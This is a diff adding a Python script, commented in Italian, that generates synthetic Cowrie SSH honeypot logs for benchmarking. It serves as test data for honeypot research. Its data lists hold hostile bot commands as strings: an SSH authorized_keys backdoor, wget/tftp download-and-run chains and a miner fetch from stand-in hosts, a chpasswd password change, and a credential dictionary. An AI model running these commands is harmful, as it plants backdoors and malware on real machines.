@@ -0,0 +1,191 @@
+"""
+GENERATORE DI LOG COWRIE SINTETICI (formato Zenodo)
+
+scrive file cyberlab_<data>.json.gz come quelli del dataset Zenodo: [ { session_id : [ {evento}, ... ] }, ... ]
+con un mix regolabile di sessioni:
+    - brute_force: tanti login falliti da dizionario, a volte un login riuscito seguito dallo script del bot (sempre uguale)
+    - interactive: login riuscito e comandi scritti a mano, con errori di battitura corretti e comandi inesistenti
+    - tunneling: login riuscito e richieste direct-tcpip (TLS / HTTP / dati sconosciuti)
+più gli eventi che la pulizia scarta (connect, kex, params, closed, ...).
+Deterministico: stesso seed e stessa scala = stessi file, byte per byte (anche il gzip, mtime = 0).
+
+uso: python Benchmarks/synthetic_cowrie.py cartella_originali [giorni] [sessioni_per_giorno] [seed]
+"""
+import gzip
+import json
+import random
+import sys
+from datetime import date, datetime, timedelta, timezone
+from pathlib import Path
+
+DEFAULT_MIX = {"brute_force": 0.6, "interactive": 0.25, "tunneling": 0.15}
+FIRST_DAY = "2019-05-18"
+
+_USERS = ["root", "admin", "ubnt", "user", "test", "oracle", "pi", "support", "guest", "postgres", "git", "ftpuser"]
+_PASSWORDS = ["123456", "password", "admin", "root", "12345678", "qwerty", "1234", "raspberry", "admin123", "P@ssw0rd",
+              "toor", "changeme", "111111", "abc123", "letmein", "passw0rd", "root123", "default", "ubnt", "support", 1234, 0]
+_BOT_SCRIPTS = [
+    ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+     "ls -lh $(which ls)", "crontab -l", "w", "uname -m", "top", "whoami", "lscpu | grep Model", "nproc"],
+    ["cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"],
+    ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"],
+    ["cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.7 -c get tftp1.sh; sh tftp1.sh"],
+    ["echo \"root:5kQ2x9Lm\"|chpasswd|bash", "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"],
+]
+_INTERACTIVE_COMMANDS = ["ls -la", "cd /tmp", "pwd", "cat /etc/passwd", "ps aux", "netstat -tulpn", "ifconfig", "id", "uname -a",
+                         "wget http://198.51.100.23/x.sh", "curl -O http://198.51.100.23/miner", "chmod +x miner", "./miner",
+                         "sudo su", "history -c", "find / -perm -4000", "df -h", "cat /proc/meminfo", "python -V", "exit"]
+_TCPIP_PAYLOADS = ["b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03'", "b'\\x16\\x03\\x03\\x00\\xdc\\x01\\x00\\x00'",
+                   "b'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n'", "b'CONNECT 203.0.113.9:443 HTTP/1.1\\r\\n\\r\\n'",
+                   "b'\\x00\\x00\\x00\\x1b\\xff'"]
+_CLIENT_VERSIONS = ["SSH-2.0-libssh_0.6.3", "SSH-2.0-Go", "SSH-2.0-PuTTY_Release_0.70", "SSH-2.0-OpenSSH_7.4p1", "SSH-2.0-paramiko_2.4.2"]
+
+
+def generate_zenodo_dataset(original_folder: Path, days: int = 3, sessions_per_day: int = 10_000, mix: dict[str, float] = None,
+                            seed: int = 42, first_day: str = FIRST_DAY) -> dict:
+    """ un file per giorno a partire da first_day. Restituisce i conteggi totali (file, sessioni, eventi, byte) """
+    original_folder = Path(original_folder)
+    original_folder.mkdir(parents=True, exist_ok=True)
+    totals = {"files": 0, "sessions": 0, "events": 0, "bytes": 0}
+    for i in range(days):
+        day = (date.fromisoformat(first_day) + timedelta(days=i)).isoformat()
+        stats = generate_zenodo_day(original_folder / f"cyberlab_{day}.json.gz", day, sessions_per_day, mix, seed + i)
+        totals["files"] += 1
+        for key in ("sessions", "events", "bytes"):
+            totals[key] += stats[key]
+    return totals
+
+def generate_zenodo_day(output_path: Path, day: str, n_sessions: int, mix: dict[str, float] = None, seed: int = 42) -> dict:
+    mix = mix or DEFAULT_MIX
+    unknown_kinds = set(mix) - set(_SESSION_BUILDERS)
+    if unknown_kinds:
+        raise ValueError(f"unknown session kinds {sorted(unknown_kinds)}, expected {sorted(_SESSION_BUILDERS)}")
+    rnd = random.Random(seed)
+    kinds, weights = zip(*mix.items())
+    day_start = datetime.fromisoformat(day).replace(tzinfo=timezone.utc)
+    n_events = 0
+
+    with open(output_path, "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw, compresslevel=6, mtime=0) as gz:
+        gz.write(b"[\n")
+        for i, kind in enumerate(rnd.choices(kinds, weights, k=n_sessions)):
+            session_id = f"{rnd.getrandbits(48):012x}"
+            events = _SESSION_BUILDERS[kind](_SessionClock(rnd, day_start, session_id))
+            n_events += len(events)
+            if i:
+                gz.write(b",\n")
+            gz.write(json.dumps({session_id: events}).encode("utf-8"))
+        gz.write(b"\n]")
+
+    return {"sessions": n_sessions, "events": n_events, "bytes": Path(output_path).stat().st_size}
+
+
+"""
+    PRIVATE FUNCTION FOR USAGE PURPOSE
+"""
+
+class _SessionClock:
+    """ costruisce gli eventi di una sessione con tempi crescenti e i campi comuni di cowrie """
+    __slots__ = ("rnd", "time", "session", "src_ip", "events")
+
+    def __init__(self, rnd: random.Random, day_start: datetime, session_id: str):
+        self.rnd = rnd
+        self.time = day_start + timedelta(microseconds=rnd.randrange(86_000 * 1_000_000))
+        self.session = session_id
+        self.src_ip = f"{rnd.randint(1, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+        self.events = []
+
+    def event(self, eventid: str, max_wait: float = 1.0, **data):
+        self.time += timedelta(microseconds=self.rnd.randrange(1, int(max_wait * 1_000_000) + 2))
+        self.events.append({"eventid": eventid, **data, "timestamp": self.time.isoformat(timespec="microseconds").replace("+00:00", "Z"),
+                            "src_ip": self.src_ip, "session": self.session, "sensor": "cyberlab"})
+
+    def connect(self):
+        self.event("cowrie.session.connect", src_port=self.rnd.randint(1024, 65535), dst_ip="192.0.2.10", dst_port=22, protocol="ssh",
+                   message=f"New connection: {self.src_ip} [session: {self.session}]")
+        version = self.rnd.choice(_CLIENT_VERSIONS)
+        self.event("cowrie.client.version", version=version, message=f"Remote SSH version: {version}")
+        self.event("cowrie.client.kex", hassh="ec7378c1a92f5a8dde7e8b7a1ddf33d1", kexAlgs=["curve25519-sha256", "diffie-hellman-group14-sha1"],
+                   keyAlgs=["ssh-rsa", "ssh-dss"], encCS=["aes128-ctr", "aes256-ctr"], compCS=["none"])
+
+    def login(self, success: bool, username: str, password):
+        eventid, outcome = ("cowrie.login.success", "succeeded") if success else ("cowrie.login.failed", "failed")
+        self.event(eventid, max_wait=3.0, username=username, password=password,
+                   message=f"login attempt [{username}/{password}] {outcome}")
+
+    def command(self, command: str, found: bool = True, max_wait: float = 2.0):
+        self.event("cowrie.command.input", max_wait=max_wait, input=command, message=f"CMD: {command}")
+        if found:
+            self.event("cowrie.command.success", max_wait=0.01, input=command, message=f"Command found: {command}")
+        else:
+            self.event("cowrie.command.failed", max_wait=0.01, input=command, message=f"Command not found: {command}")
+
+    def close(self) -> list[dict]:
+        duration = round((self.time - datetime.fromisoformat(self.events[0]["timestamp"].replace("Z", "+00:00"))).total_seconds(), 6)
+        self.event("cowrie.log.closed", max_wait=0.1, ttylog=f"var/lib/cowrie/tty/{self.session}", size=self.rnd.randint(0, 4096))
+        self.event("cowrie.session.closed", max_wait=0.1, duration=duration, message=f"Connection lost after {duration} seconds")
+        return self.events
+
+
+def _brute_force_session(s: _SessionClock) -> list[dict]:
+    rnd = s.rnd
+    s.connect()
+    username = rnd.choice(_USERS)
+    for _ in range(min(int(rnd.expovariate(1 / 12)) + 1, 400)):
+        if rnd.random() < 0.1:
+            username = rnd.choice(_USERS)
+        password = rnd.choice(_PASSWORDS)
+        if rnd.random() < 0.15:
+            password = f"{password}{rnd.randint(0, 99)}"
+        s.login(False, username, password)
+    if rnd.random() < 0.3: # entrato: esegue lo script del bot
+        s.login(True, username, rnd.choice(_PASSWORDS))
+        s.event("cowrie.session.params", arch="linux-x64-lsb")
+        for command in rnd.choice(_BOT_SCRIPTS):
+            s.command(command, max_wait=0.2)
+    return s.close()
+
+def _interactive_session(s: _SessionClock) -> list[dict]:
+    rnd = s.rnd
+    s.connect()
+    s.login(True, "root", rnd.choice(_PASSWORDS))
+    if rnd.random() < 0.3:
+        s.event("cowrie.client.fingerprint", username="root", fingerprint="a4:f1:c3:9e:2b:10:77:5d:0e:31:aa:9c:62:d4:18:f0", key="ssh-rsa AAAAB3Nza", type="ssh-rsa")
+    s.event("cowrie.client.size", width=rnd.choice([80, 120, 200]), height=rnd.choice([24, 40, 60]))
+    for _ in range(rnd.randint(1, 40)):
+        command = rnd.choice(_INTERACTIVE_COMMANDS)
+        if rnd.random() < 0.15 and len(command) > 2: # errore di battitura, poi la correzione
+            i = rnd.randrange(len(command))
+            s.command(command[:i] + command[i + 1:], found=False, max_wait=20.0)
+        s.command(command, found=rnd.random() < 0.9, max_wait=20.0)
+    return s.close()
+
+def _tunneling_session(s: _SessionClock) -> list[dict]:
+    rnd = s.rnd
+    s.connect()
+    s.login(True, rnd.choice(_USERS), rnd.choice(_PASSWORDS))
+    for _ in range(rnd.randint(1, 6)):
+        dst_port = rnd.choice([443, 80, 25, 8080])
+        s.event("cowrie.direct-tcpip.request", dst_ip="203.0.113.9", dst_port=dst_port, src_ip="127.0.0.1", src_port=rnd.randint(1024, 65535),
+                message=f"direct-tcp connection request to 203.0.113.9:{dst_port} from 127.0.0.1")
+        if rnd.random() < 0.8:
+            s.event("cowrie.direct-tcpip.data", dst_ip="203.0.113.9", dst_port=dst_port, data=rnd.choice(_TCPIP_PAYLOADS),
+                    message=f"direct-tcp forward to 203.0.113.9:{dst_port}")
+    return s.close()
+
+_SESSION_BUILDERS = {
+    "brute_force": _brute_force_session,
+    "interactive": _interactive_session,
+    "tunneling": _tunneling_session,
+}
+
+
+if __name__ == "__main__":
+    if len(sys.argv) < 2:
+        print(__doc__)
+        sys.exit(1)
+    arguments = sys.argv[2:]
+    totals = generate_zenodo_dataset(Path(sys.argv[1]),
+                                     days=int(arguments[0]) if len(arguments) > 0 else 3,
+                                     sessions_per_day=int(arguments[1]) if len(arguments) > 1 else 10_000,
+                                     seed=int(arguments[2]) if len(arguments) > 2 else 42)
+    print(json.dumps(totals))